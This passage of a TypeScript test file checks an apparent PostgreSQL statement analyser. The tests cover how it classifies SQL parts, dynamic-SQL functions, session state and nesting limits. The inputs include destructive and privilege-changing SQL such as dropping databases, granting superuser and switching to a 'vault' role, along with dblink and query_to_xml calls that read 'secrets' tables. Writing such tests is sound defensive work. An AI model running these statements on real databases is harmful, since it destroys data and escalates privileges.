  'ROWS FROM': { sql: 'select * from rows from (f(), g())', parts: ['select'], functions: ['f', 'g'] },
  'functions in VALUES and RETURNING': {
    sql: 'insert into t values (f(1)) returning g(id)',
    parts: ['insert public.t'],
    functions: ['f', 'g'],
  },
  'function in ON CONFLICT': {
    sql: 'insert into t values (1) on conflict (id) do update set v = h(excluded.v) where k(t.v)',
    parts: ['insert public.t', 'update public.t'],
    functions: ['h', 'k'],
  },
  'casts are not calls': { sql: "select 'pg_authid'::regclass, cast(1 as text)", parts: ['select'], functions: [] },
  'operators are not calls': { sql: 'select 1 + 2, a || b from t', parts: ['select public.t'], functions: [] },
  'SQL-syntax functions appear as pg_catalog calls': {
    sql: 'select extract(year from now())',
    parts: ['select'],
    functions: ['pg_catalog.extract', 'now'],
  },
  'each statement has its own functions': {
    sql: 'select f(); select g()',
    parts: ['select', 'select'],
  },
  'CALL records the procedure': { sql: 'CALL s.do_things(1, f(2))', parts: ['call'], functions: ['s.do_things', 'f'] },
  'CALL with a sub-select still has its call part': {
    sql: 'call p((select x from t))',
    parts: ['call', 'select public.t'],
    functions: ['p'],
  },
});

table('dynamic SQL functions', {
  query_to_xml: {
    sql: "select query_to_xml('select * from secrets', true, false, '')",
    parts: ['select'],
    functions: ['query_to_xml'],
    dynamic: ['query_to_xml'],
  },
  'dblink in FROM': {
    sql: "select * from dblink('dbname=x', 'select secret from keys') as t(s text)",
    parts: ['select'],
    dynamic: ['dblink'],
  },
  dblink_exec: { sql: "select dblink_exec('drop table x')", parts: ['select'], dynamic: ['dblink_exec'] },
  'schema-qualified dblink': { sql: "select ext.dblink_connect('c')", parts: ['select'], dynamic: ['ext.dblink_connect'] },
  'table_to_xml reads a table named by a value': {
    sql: "select table_to_xml('secrets', true, false, '')",
    parts: ['select'],
    dynamic: ['table_to_xml'],
  },
  'ts_stat runs its query text': { sql: "select * from ts_stat('select v from docs')", parts: ['select'], dynamic: ['ts_stat'] },
  'cursor_to_xml': { sql: "select cursor_to_xml('c', 10, false, false, '')", parts: ['select'], dynamic: ['cursor_to_xml'] },
  'crosstab': { sql: "select * from crosstab('select 1') as ct(a int)", parts: ['select'], dynamic: ['crosstab'] },
  'dynamic call in a sub-query marks the statement': {
    sql: "select * from t where exists (select query_to_xml('select 1', true, true, ''))",
    parts: ['select public.t'],
    dynamic: ['query_to_xml'],
  },
  'pg_read_file is not dynamic SQL': { sql: "select pg_read_file('x')", parts: ['select'], dynamic: [] },
});

table('DO, functions and procedures', {
  'DO block is opaque': { sql: 'DO $$ BEGIN DELETE FROM t; END $$', parts: ['do'] },
  'DO with language': { sql: "do language plpgsql 'begin perform 1; end'", parts: ['do'] },
  'CREATE FUNCTION is create_function + do': {
    sql: 'create function f() returns int language sql as $$ delete from t returning 1 $$',
    parts: ['create_function', 'do'],
  },
  'CREATE PROCEDURE BEGIN ATOMIC': {
    sql: 'create procedure p() begin atomic insert into t values (1); end',
    parts: ['create_procedure', 'do'],
  },
  'ALTER FUNCTION': { sql: 'alter function f(int) owner to x', parts: ['alter_function'] },
  'DROP FUNCTION': { sql: 'drop function f(int)', parts: ['drop_function'] },
  'DROP PROCEDURE': { sql: 'drop procedure p', parts: ['drop_procedure'] },
});

table('DDL kinds', {
  'CREATE TABLE': { sql: 'create table s.t (a int primary key)', parts: ['create_table s.t'] },
  'CREATE TEMP TABLE': { sql: 'create temp table t (a int)', parts: ['create_table pg_temp.t'] },
  'CREATE TABLE pg_temp.x': { sql: 'create table pg_temp.x (a int)', parts: ['create_table pg_temp.x'] },
  'CREATE TABLE with REFERENCES and LIKE': {
    sql: 'create table c (like tmpl, p int references parent)',
    parts: ['create_table public.c', 'select public.tmpl', 'select public.parent'],
  },
  'CREATE TABLE PARTITION OF': {
    sql: 'create table p1 partition of p for values in (1)',
    parts: ['create_table public.p1', 'select public.p'],
  },
  'ALTER TABLE': { sql: 'alter table t add column b int default f()', parts: ['alter_table public.t'], functions: ['f'] },
  'ALTER TABLE RENAME COLUMN': { sql: 'alter table t rename column a to b', parts: ['alter_table public.t'] },
  'ALTER TABLE SET SCHEMA': { sql: 'alter table t set schema s', parts: ['alter_table public.t'] },
  'ALTER INDEX RENAME': { sql: 'alter index i rename to j', parts: ['alter_index public.i'] },
  'ALTER VIEW': { sql: 'alter view v owner to x', parts: ['alter_view public.v'] },
  'ALTER MATERIALIZED VIEW': { sql: 'alter materialized view mv rename to mv2', parts: ['alter_materialized_view public.mv'] },
  'ALTER SEQUENCE': { sql: 'alter sequence s restart', parts: ['alter_sequence public.s'] },
  'DROP TABLE several': { sql: 'drop table a, s.b cascade', parts: ['drop_table public.a', 'drop_table s.b'] },
  'DROP TABLE IF EXISTS': { sql: 'drop table if exists "T"', parts: ['drop_table public.T'] },
  'DROP VIEW': { sql: 'drop view v', parts: ['drop_view public.v'] },
  'DROP MATERIALIZED VIEW': { sql: 'drop materialized view mv', parts: ['drop_materialized_view public.mv'] },
  'DROP INDEX': { sql: 'drop index concurrently s.i', parts: ['drop_index s.i'] },
  'DROP SEQUENCE': { sql: 'drop sequence s', parts: ['drop_sequence public.s'] },
  'DROP SCHEMA': { sql: 'drop schema s cascade', parts: ['drop_schema'] },
  'DROP DATABASE': { sql: 'drop database d', parts: ['drop_database'] },
  'DROP ROLE and USER': { sql: 'drop role r; drop user u', parts: ['drop_role', 'drop_role'] },
  'DROP TRIGGER carries its table': { sql: 'drop trigger tr on s.t', parts: ['drop_trigger s.t'] },
  'DROP POLICY carries its table': { sql: 'drop policy p on t', parts: ['drop_policy public.t'] },
  'DROP RULE carries its table': { sql: 'drop rule r on t', parts: ['drop_rule public.t'] },
  'DROP EXTENSION': { sql: 'drop extension dblink', parts: ['drop_extension'] },
  'DROP TYPE': { sql: 'drop type mood', parts: ['drop_type'] },
  'DROP OWNED': { sql: 'drop owned by x', parts: ['drop_owned'] },
  'CREATE VIEW': { sql: 'create view v as select * from secret', parts: ['create_view public.v', 'select public.secret'] },
  'CREATE OR REPLACE TEMP VIEW': { sql: 'create or replace temp view v as select 1', parts: ['create_view pg_temp.v'] },
  'CREATE INDEX named': { sql: 'create unique index i on s.t (a)', parts: ['create_index s.t', 'create_index s.i'] },
  'CREATE SEQUENCE': { sql: 'create sequence s', parts: ['create_sequence public.s'] },
  'CREATE SCHEMA': { sql: 'create schema s', parts: ['create_schema'] },
  'CREATE DATABASE': { sql: 'create database d', parts: ['create_database'] },
  'CREATE ROLE, USER, GROUP': {
    sql: "create role r; create user u password 'x'; create group g",
    parts: ['create_role', 'create_role', 'create_role'],
  },
  'ALTER ROLE': { sql: 'alter role r superuser', parts: ['alter_role'] },
  'ALTER ROLE SET search_path is not this session': {
    sql: 'alter role r set search_path = vault; select * from keys',
    parts: ['alter_role', 'select public.keys'],
  },
  'CREATE EXTENSION': { sql: 'create extension if not exists dblink', parts: ['create_extension'] },
  'CREATE TRIGGER carries its table': {
    sql: 'create trigger tr before insert on t for each row execute function f()',
    parts: ['create_trigger public.t'],
  },
  'CREATE POLICY with a sub-select': {
    sql: 'create policy p on t using (owner = (select id from users limit 1))',
    parts: ['create_policy public.t', 'select public.users'],
  },
  'CREATE RULE has its actions': {
    sql: 'create rule r as on insert to t do instead insert into log values (new.a)',
    parts: ['create_rule public.t', 'insert public.log'],
  },
  'CREATE TYPE enum': { sql: "create type mood as enum ('a', 'b')", parts: ['create_type'] },
  'CREATE TYPE composite names no relation': { sql: 'create type comp as (a int, b text)', parts: ['create_type'] },
  'ALTER TABLE ATTACH PARTITION reads the partition': {
    sql: 'alter table p attach partition c for values in (1)',
    parts: ['alter_table public.p', 'select public.c'],
  },
  'CREATE PUBLICATION names its tables': { sql: 'create publication pub for table t', parts: ['create_publication', 'select public.t'] },
  'ALTER TABLE … USING expression calls': {
    sql: 'alter table t alter column a type int using f(a)',
    parts: ['alter_table public.t'],
    functions: ['f'],
  },
  'CREATE DOMAIN': { sql: 'create domain d as int check (value > 0)', parts: ['create_domain'] },
  'CREATE AGGREGATE': { sql: 'create aggregate a(int) (sfunc = f, stype = int)', parts: ['create_aggregate'] },
  'CREATE SERVER': { sql: 'create server s foreign data wrapper postgres_fdw', parts: ['create_server'] },
  'CREATE FOREIGN TABLE': {
    sql: 'create foreign table ft (a int) server s',
    parts: ['create_foreign_table public.ft'],
  },
  'CREATE EVENT TRIGGER': {
    sql: 'create event trigger e on ddl_command_start execute function f()',
    parts: ['create_event_trigger'],
  },
  'REFRESH MATERIALIZED VIEW': { sql: 'refresh materialized view concurrently mv', parts: ['refresh_materialized_view public.mv'] },
  'COMMENT ON TABLE carries the table': { sql: "comment on table t is 'x'", parts: ['comment public.t'] },
  'COMMENT ON COLUMN carries the table': { sql: "comment on column s.t.c is 'x'", parts: ['comment s.t'] },
  'COMMENT ON SCHEMA has no relation': { sql: "comment on schema s is 'x'", parts: ['comment'] },
  'ALTER SYSTEM': { sql: "alter system set work_mem = '1GB'", parts: ['alter_system'] },
  'SECURITY LABEL is other': { sql: "security label for selinux on table t is 'x'", parts: ['other'] },
  'LOAD is other': { sql: "load 'auto_explain'", parts: ['other'] },
  'REASSIGN OWNED is other': { sql: 'reassign owned by a to b', parts: ['other'] },
});

table('GRANT and REVOKE', {
  'GRANT on tables': { sql: 'grant select, update on t, s.u to bob', parts: ['grant public.t', 'grant s.u'] },
  'REVOKE on table': { sql: 'revoke all on table t from bob', parts: ['revoke public.t'] },
  'GRANT ALL TABLES IN SCHEMA has no relation': { sql: 'grant select on all tables in schema s to bob', parts: ['grant'] },
  'GRANT role': { sql: 'grant admin to bob', parts: ['grant'] },
  'REVOKE role': { sql: 'revoke admin from bob', parts: ['revoke'] },
  'GRANT on schema': { sql: 'grant usage on schema s to bob', parts: ['grant'] },
  'GRANT on function': { sql: 'grant execute on function f(int) to bob', parts: ['grant'] },
  'ALTER DEFAULT PRIVILEGES': {
    sql: 'alter default privileges in schema s grant select on tables to bob',
    parts: ['alter_default_privileges'],
  },
});

table('maintenance and notifications', {
  LISTEN: { sql: 'listen ch', parts: ['listen'] },
  UNLISTEN: { sql: 'unlisten *', parts: ['listen'] },
  NOTIFY: { sql: "notify ch, 'payload'", parts: ['notify'] },
  pg_notify: { sql: "select pg_notify('ch', 'x')", parts: ['select'], functions: ['pg_notify'] },
  VACUUM: { sql: 'vacuum t', parts: ['vacuum public.t'] },
  'VACUUM ANALYZE several': { sql: 'vacuum (analyze, verbose) a, s.b', parts: ['vacuum public.a', 'vacuum s.b'] },
  'VACUUM everything': { sql: 'vacuum', parts: ['vacuum'] },
  ANALYZE: { sql: 'analyze t', parts: ['analyze public.t'] },
  'ANALYZE everything': { sql: 'analyze', parts: ['analyze'] },
  LOCK: { sql: 'lock table t, s.u in access exclusive mode', parts: ['lock public.t', 'lock s.u'] },
  REINDEX: { sql: 'reindex table t', parts: ['reindex public.t'] },
  'REINDEX SCHEMA': { sql: 'reindex schema s', parts: ['reindex'] },
  CLUSTER: { sql: 'cluster t using i', parts: ['cluster public.t'] },
  DISCARD: { sql: 'discard plans', parts: ['discard'] },
  CHECKPOINT: { sql: 'checkpoint', parts: ['checkpoint'] },
});

table('errors and limits', {
  'syntax error carries the position': { sql: 'selec 1', error: /syntax error at or near "selec" \(at character 1\)/ },
  'syntax error later in a multi-statement string denies all': { sql: 'select 1; drop tabel x', error: /syntax error/ },
  'deep parentheses': { sql: `select ${'('.repeat(10000)}1${')'.repeat(10000)}`, error: /nested/ },
  'deep expression chain': { sql: `select 1${' + 1'.repeat(400)}`, error: /nested deeper than the limit of 200/ },
  'deep sub-selects': { sql: `select ${'(select '.repeat(120)}1${')'.repeat(120)}`, error: /nested deeper/ },
  'moderate nesting is fine': { sql: `select ${'('.repeat(50)}1${')'.repeat(50)}`, parts: ['select'] },
});

// ---------------------------------------------------------------------------------------------------------------------

describe('limits', () => {
  test('text over maxBytes is denied without parsing', () => {
    const r = analysePostgres(`select '${'x'.repeat(2000)}'`, offline, { maxBytes: 1000, maxDepth: 200 });
    assert.match(r.error ?? '', /larger than the limit of 1000 bytes/);
    assert.deepEqual(r.parts, []);
  });

  test('the byte limit counts UTF-8 bytes, not characters', () => {
    const text = `select '${'é'.repeat(600)}'`; // 610 characters, 1210 bytes
    assert.match(analysePostgres(text, offline, { maxBytes: 1000, maxDepth: 200 }).error ?? '', /larger than/);
    assert.equal(analysePostgres(text, offline, { maxBytes: 2000, maxDepth: 200 }).error, undefined);
  });

  test('a 2 MiB statement is denied by the default limit', () => {
    const r = analysePostgres(`select '${'x'.repeat(2 << 20)}'`, offline);
    assert.match(r.error ?? '', /larger than the limit of 1048576 bytes/);
  });

  test('maxDepth is configurable', () => {
    // SelectStmt > ResTarget > FuncCall f > FuncCall g > FuncCall h: five nodes deep (parentheses add none).
    const sql = `select ${'('.repeat(30)}f(g(h(1)))${')'.repeat(30)}`;
    assert.equal(analysePostgres(sql, offline, { maxBytes: 1 << 20, maxDepth: 5 }).error, undefined);
    assert.match(analysePostgres(sql, offline, { maxBytes: 1 << 20, maxDepth: 4 }).error ?? '', /limit of 4/);
  });

  test('pathological nesting is refused within a second', () => {
    for (const sql of [
      `select ${'('.repeat(100000)}1${')'.repeat(100000)}`,
      `select 1${' + 1'.repeat(20000)}`,
      `select ${'array['.repeat(20000)}1${']'.repeat(20000)}`,
    ]) {
      const start = performance.now();
      const r = analysePostgres(sql, offline);
      assert.match(r.error ?? '', /nested/);
      assert.ok(performance.now() - start < 1000, 'took longer than a second');
    }
  });

  test('an error leaves the state unchanged', () => {
    const r = analysePostgres('set search_path = vault; selec 1', offline);
    assert.ok(r.error);
    assert.equal(r.stateAfter, offline);
  });
});

describe('session state across commands', () => {
  test('PREPARE in one command, EXECUTE in the next', () => {
    const first = analysePostgres('prepare p(int) as delete from t where id = $1', offline);
    assert.equal(first.error, undefined);
    assert.equal(offline.prepared.size, 0, 'the input state is not mutated');
    const second = analysePostgres('execute p(1)', first.stateAfter);
    assert.deepEqual((second.parts as SqlPart[]).map(show), ['execute', 'delete public.t']);
    const third = analysePostgres('deallocate p; execute p(1)', second.stateAfter);
    assert.match(third.error ?? '', /unknown prepared statement/);
  });

  test('SET search_path persists into the next command', () => {
    const a = analysePostgres('set search_path = vault', offline);
    assert.deepEqual(a.stateAfter.searchPath, ['vault']);
    const b = analysePostgres('select * from keys', a.stateAfter);
    assert.deepEqual((b.parts as SqlPart[]).map(show), ['select vault.keys']);
  });

  test('SET LOCAL inside an open transaction lasts until COMMIT of a later command', () => {
    const begin = analysePostgres('begin', offline);
    const set = analysePostgres('set local search_path = vault', begin.stateAfter);
    assert.deepEqual(set.stateAfter.searchPath, ['vault']);
    const read = analysePostgres('select * from keys', set.stateAfter);
    assert.deepEqual((read.parts as SqlPart[]).map(show), ['select vault.keys']);
    const commit = analysePostgres('commit', read.stateAfter);
    assert.deepEqual(commit.stateAfter.searchPath, ['$user', 'public']);
  });

  test('ROLLBACK in a later command undoes a SET made in the transaction', () => {
    let s = analysePostgres('begin', offline).stateAfter;
    s = analysePostgres('set search_path = vault', s).stateAfter;
    assert.deepEqual(s.searchPath, ['vault']);
    s = analysePostgres('rollback', s).stateAfter;
    assert.deepEqual(s.searchPath, ['$user', 'public']);
  });

  test('after a literal set_config the next command must re-read the path (the call may not have run)', () => {
    const a = analysePostgres("select set_config('search_path', 'vault', false)", offline);
    assert.equal(a.error, undefined);
    assert.match((a.stateAfter as PgTrackedState).searchPathUnknown ?? '', /set_config/);
    assert.match(analysePostgres('select * from keys', a.stateAfter).error ?? '', /search_path/);
  });

  test('a computed set_config makes the next command unanalysable until the path is set again', () => {
    const a = analysePostgres("select set_config('search_path', (select v from cfg), false)", offline);
    assert.equal(a.error, undefined);
    assert.match(analysePostgres('select * from keys', a.stateAfter).error ?? '', /search_path/);
    const fixed = analysePostgres('set search_path = public; select * from keys', a.stateAfter);
    assert.deepEqual((fixed.parts as SqlPart[]).map(show), ['set', 'select public.keys']);
  });

  test('a temporary table from an earlier command yields both candidates offline', () => {
    const a = analysePostgres('create temp table keys (a int)', offline);
    const b = analysePostgres('select * from keys', a.stateAfter);
    assert.deepEqual(sorted((b.parts as SqlPart[]).map(show)), ['select pg_temp.keys', 'select public.keys']);
    const d = analysePostgres('drop table keys; truncate keys', a.stateAfter);
    assert.deepEqual(sorted((d.parts as SqlPart[]).map(show)), [
      'drop_table pg_temp.keys',
      'drop_table public.keys',
      'truncate pg_temp.keys',
      'truncate public.keys',
    ]);
    const c = analysePostgres('discard temp; select * from keys', a.stateAfter);
    assert.deepEqual((c.parts as SqlPart[]).map(show), ['discard', 'select public.keys']);
  });

  test('ON COMMIT DROP tables are not remembered', () => {
    const a = analysePostgres('create temp table keys (a int) on commit drop', offline);
    const b = analysePostgres('select * from keys', a.stateAfter);
    assert.deepEqual((b.parts as SqlPart[]).map(show), ['select public.keys']);
  });

  test('the catalog lookup decides when present', () => {
    const calls: Array<[readonly string[], string]> = [];
    const state: PgSessionState = {
      searchPath: ['$user', 'public', 'app'],
      user: 'alice',
      prepared: new Map(),
      lookupRelation: (schemas, name) => {
        calls.push([schemas, name]);
        return name === 'orders' ? 'app' : undefined;
      },
    };
    const r = analysePostgres('select * from orders, other, pg_class', state);
    assert.deepEqual(sorted((r.parts as SqlPart[]).map(show)), ['select app.orders', 'select pg_catalog.pg_class', 'select public.other']);
    assert.deepEqual(calls[0], [['pg_temp', 'pg_catalog', 'alice', 'public', 'app'], 'orders']);
  });
});

describe('roles and "$user" with a catalog', () => {
  const lookupState = (seen: string[][]): PgSessionState => ({
    searchPath: ['$user', 'public'],
    user: 'alice',
    prepared: new Map(),
    lookupRelation: (schemas) => {
      seen.push([...schemas]);
      return schemas[2]; // the first schema after the implicit pg_temp and pg_catalog
    },
  });

  test('SET ROLE changes what "$user" means for the rest of the command and after it', () => {
    const seen: string[][] = [];
    const r = analysePostgres('select * from a; set role vault; select * from keys', lookupState(seen));
    assert.deepEqual((r.parts as SqlPart[]).map(show), ['select alice.a', 'set_role', 'select vault.keys']);
    const next = analysePostgres('select * from k2', r.stateAfter);
    assert.deepEqual((next.parts as SqlPart[]).map(show), ['select vault.k2']);
    const reset = analysePostgres('reset role; select * from k3', next.stateAfter);
    assert.deepEqual((reset.parts as SqlPart[]).map(show), ['set_role', 'select alice.k3']);
  });

  test('SET ROLE NONE and SET LOCAL ROLE', () => {
    const r = analysePostgres('set role bob; set role none; select * from a', lookupState([]));
    assert.deepEqual((r.parts as SqlPart[]).map(show), ['set_role', 'set_role', 'select alice.a']);
    const local = analysePostgres('set local role bob; select * from a', lookupState([]));
    assert.deepEqual((local.parts as SqlPart[]).map(show), ['set_role', 'select bob.a']);
    assert.equal((local.stateAfter as PgTrackedState).currentRole, null, 'SET LOCAL lapses at the end of the command');
  });

  test('SET SESSION AUTHORIZATION', () => {
    const r = analysePostgres("set session authorization 'carol'; select * from a", lookupState([]));
    assert.deepEqual((r.parts as SqlPart[]).map(show), ['set_role', 'select carol.a']);
  });

  test('a computed role makes "$user" unresolvable', () => {
    const r = analysePostgres("select set_config('role', (select r from x), false); select * from a", lookupState([]));
    assert.match(r.error ?? '', /\$user/);
  });

  test('RESET ALL keeps SET ROLE (checked on PostgreSQL 15); DISCARD ALL drops it', () => {
    const r = analysePostgres('set role vault; reset all; select * from a', lookupState([]));
    assert.deepEqual((r.parts as SqlPart[]).map(show), ['set_role', 'set_role', 'select vault.a']);
    const d = analysePostgres('set role vault; discard all; select * from a', lookupState([]));
    assert.deepEqual((d.parts as SqlPart[]).map(show), ['set_role', 'discard', 'select alice.a']);
  });

  test('SET SESSION AUTHORIZATION ends SET ROLE', () => {
    const r = analysePostgres("set role vault; set session authorization 'carol'; select * from a", lookupState([]));
    assert.deepEqual((r.parts as SqlPart[]).map(show), ['set_role', 'set_role', 'select carol.a']);
  });

  test('ROLLBACK undoes SET ROLE', () => {
    const r = analysePostgres('begin; set role vault; rollback; select * from a', lookupState([]));
    assert.deepEqual((r.parts as SqlPart[]).map(show), ['transaction', 'set_role', 'transaction', 'select alice.a']);
  });
});

describe('initialisation', () => {
  test('initPostgresParser can be called again', async () => {
    await initPostgresParser();
    assert.equal(analysePostgres('select 1', offline).error, undefined);
  });
});

describe('stored queries: statements that change what a later EXECUTE or FETCH runs', () => {
  const changes = [
    'PREPARE p AS SELECT 1',
    'DEALLOCATE p',
    'DEALLOCATE ALL',
    'DECLARE c CURSOR FOR SELECT 1',
    'BEGIN; DECLARE c CURSOR WITH HOLD FOR SELECT 1',
    'CLOSE c',
    'CLOSE ALL',
    'DISCARD ALL',
    'SELECT 1; /* then */ PrEpArE q AS SELECT 2',
  ];
  const keeps = [
    'SELECT 1',
    "SELECT 'prepare declare close' AS deallocate",
    'SELECT "close", "discard" FROM (SELECT 1 AS "close", 2 AS "discard") t',
    'EXECUTE p',
    'FETCH 10 FROM c',
    '-- DECLARE c CURSOR FOR SELECT 1\nSELECT 2',
    "DO $$ BEGIN PERFORM 1; END $$",
  ];
  for (const sql of changes) test(`changes: ${sql}`, () => assert.equal(analysePostgres(sql, offline).storedQueries, true));
  for (const sql of keeps) test(`keeps: ${sql.replace(/\n/g, ' ')}`, () => assert.equal(analysePostgres(sql, offline).storedQueries, undefined));
});
